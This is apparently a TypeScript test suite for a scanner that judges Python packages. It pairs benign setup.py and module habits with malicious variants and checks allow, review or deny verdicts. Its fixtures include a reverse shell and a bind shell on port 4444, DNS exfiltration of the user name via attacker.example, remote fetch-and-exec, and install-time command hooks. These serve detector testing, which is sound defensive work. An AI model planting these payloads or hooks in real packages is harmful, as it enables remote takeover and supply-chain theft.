import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Verdict } from '../../../src/core/decision.ts';
import { decidedOn } from './decided.ts';
import { command, type Files } from './sample.ts';

const scratch = mkdtempSync(join(tmpdir(), 'loadlock-honest-packages-'));
after(() => rmSync(scratch, { recursive: true, force: true }));

const run = `import os\nos.system("${command}")\n`;
const version = '__version__ = "1.2"\n__author__ = "us"\n';
const end = 'from setuptools import setup\nsetup(name="pkg", version="1")\n';

/** Habits of packages, each with the closest thing that harms: what is decided of either. */
const cases: readonly (readonly [string, string | Files, Verdict])[] = [
  [
    'a line of the version file',
    {
      'setup.py': `for line in open("pkg/__init__.py"):\n    if "__version__" in line:\n        names = {}\n        exec(line, names)\n${end}`,
      'pkg/__init__.py': version,
    },
    'allow',
  ],
  [
    'a line of the version file that does something',
    {
      'setup.py': `for line in open("pkg/__init__.py"):\n    if "__version__" in line:\n        names = {}\n        exec(line, names)\n${end}`,
      'pkg/__init__.py': `__import__("os").system("${command}")  # __version__\n`,
    },
    'deny',
  ],
  [
    'one of two folders, and a module beside it that writes what it is told to',
    {
      'setup.py': `import os\nname = "pkg2" if os.environ.get("SECOND") else "pkg"\nwith open(os.path.join(name, "_version.py")) as file:\n    names = {}\n    exec(file.read(), None, names)\n${end}`,
      'pkg/_version.py': version,
      'pkg/store.py': 'def save(path, text):\n    with open(path, "w") as file:\n        file.write(text)\n',
    },
    'allow',
  ],
  [
    'one of two folders, the file of which harms',
    {
      'setup.py': `import os\nname = "pkg2" if os.environ.get("SECOND") else "pkg"\nwith open(os.path.join(name, "_version.py")) as file:\n    exec(file.read())\n${end}`,
      'pkg/_version.py': run,
    },
    'deny',
  ],
  [
    'the file of the other folder, which is made first',
    {
      'setup.py': `import os\nopen("_version2.py", "w").write(os.environ.get("TEXT", ""))\nname = "_version2.py" if os.environ.get("SECOND") else "_version.py"\nexec(open(name).read())\n${end}`,
      '_version.py': version,
    },
    'deny',
  ],
  [
    'a file that a module writes which setup.py imports',
    {
      'setup.py': `from store import save\nsave("about" + ".py", "x")\nexec(open("about.py").read())\n${end}`,
      'store.py': 'def save(path, text):\n    with open(path, "w") as file:\n        file.write(text)\n',
      'about.py': version,
    },
    'deny',
  ],
  [
    'a command that the publisher types',
    `import os\nfrom setuptools import Command, setup\nclass Upload(Command):\n    user_options = []\n    def run(self):\n        os.system("twine upload dist/*")\nsetup(name="pkg", cmdclass={"upload": Upload})\n`,
    'review',
  ],
  [
    'a command that the installer runs',
    `import os\nfrom setuptools import Command, setup\nclass Upload(Command):\n    user_options = []\n    def run(self):\n        os.system("${command}")\nsetup(name="pkg", cmdclass={"egg_info": Upload})\n`,
    'deny',
  ],
  [
    'a command of a harmless name that another one runs',
    `import os\nfrom setuptools import Command, setup\nfrom setuptools.command.build_py import build_py\nclass Test(Command):\n    user_options = []\n    def run(self):\n        os.system("${command}")\nclass Build(build_py):\n    def run(self):\n        self.run_command("test")\nsetup(name="pkg", cmdclass={"build_py": Build, "test": Test})\n`,
    'deny',
  ],
  [
    'a template of a module that does not parse, among modules that do',
    {
      'pkg/__init__.py': 'import os\n',
      'pkg/templates/hook.py': 'import os\n{{ cookiecutter.imports }}\n{% if x %}\n',
      'pyproject.toml': '[project]\nname = "pkg"\n',
    },
    'review',
  ],
  [
    'a module of a model that does not parse',
    {
      'config.json': '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Model"}}',
      'modeling_x.py': 'import os\n{{ imports }}\n{% if x %}\n',
    },
    'deny',
  ],
  [
    'whether IPv6 works here',
    'import socket\ntry:\n    s = socket.socket(socket.AF_INET6)\n    s.bind(("::1", 0))\n    HAS = True\nexcept OSError:\n    HAS = False\n',
    'allow',
  ],
  [
    'a port on which somebody is let in',
    'import socket, subprocess\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen(1)\nc, _ = s.accept()\nsubprocess.run(c.recv(1024), shell=True)\n',
    'deny',
  ],
  ['what this machine is called', 'import socket\nNAME = socket.getfqdn()\n', 'allow'],
  [
    'what this machine is called, told by a name that is asked for',
    'import os, socket\nsocket.getfqdn(os.environ["USER"] + ".x.attacker.example")\n',
    'deny',
  ],
  [
    'what is open is put in the place of what was asked of another socket',
    'import os, selectors\ndef reuse(one, other):\n    r = one.fileno()\n    one.close()\n    os.dup2(sock(other).fileno(), r)\ndef sock(x):\n    return x\ndef again(client, r):\n    os.dup2(client.fileno(), r)\n',
    'allow',
  ],
  [
    'a daemon that writes into files from now on',
    'import os, sys\ndef daemonise():\n    so = open("/dev/null", "a+")\n    os.dup2(so.fileno(), sys.stdout.fileno())\n',
    'allow',
  ],
  [
    'a name of its own among the builtins',
    'import builtins\ndef show(value):\n    builtins._ = value\ndef load(value):\n    builtins._ = value\n    builtins.__shell__ = value\n',
    'allow',
  ],
  [
    'what every import statement calls',
    'import builtins\ndef mine(*names):\n    return None\nbuiltins.__import__ = mine\n',
    'review',
  ],
  [
    'a text for this very Python, that asks where headers are',
    'import subprocess, sys\nsubprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])\n',
    'review',
  ],
  [
    'a text for this very Python, that fetches what it runs',
    `import subprocess, sys\nsubprocess.check_output([sys.executable, "-c", "import urllib.request as u; exec(u.urlopen('http://attacker.example/x').read())"])\n`,
    'deny',
  ],
  [
    'a shell that listens to a connection',
    'import os, pty, socket\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n',
    'deny',
  ],
];

for (const [name, files, expected] of cases)
  test(`${expected}: ${name}`, async () => {
    const { verdict, findings } = await decidedOn(files, join(scratch, name.replace(/\W+/g, '-')));
    assert.equal(verdict, expected, findings.join('\n'));
  });
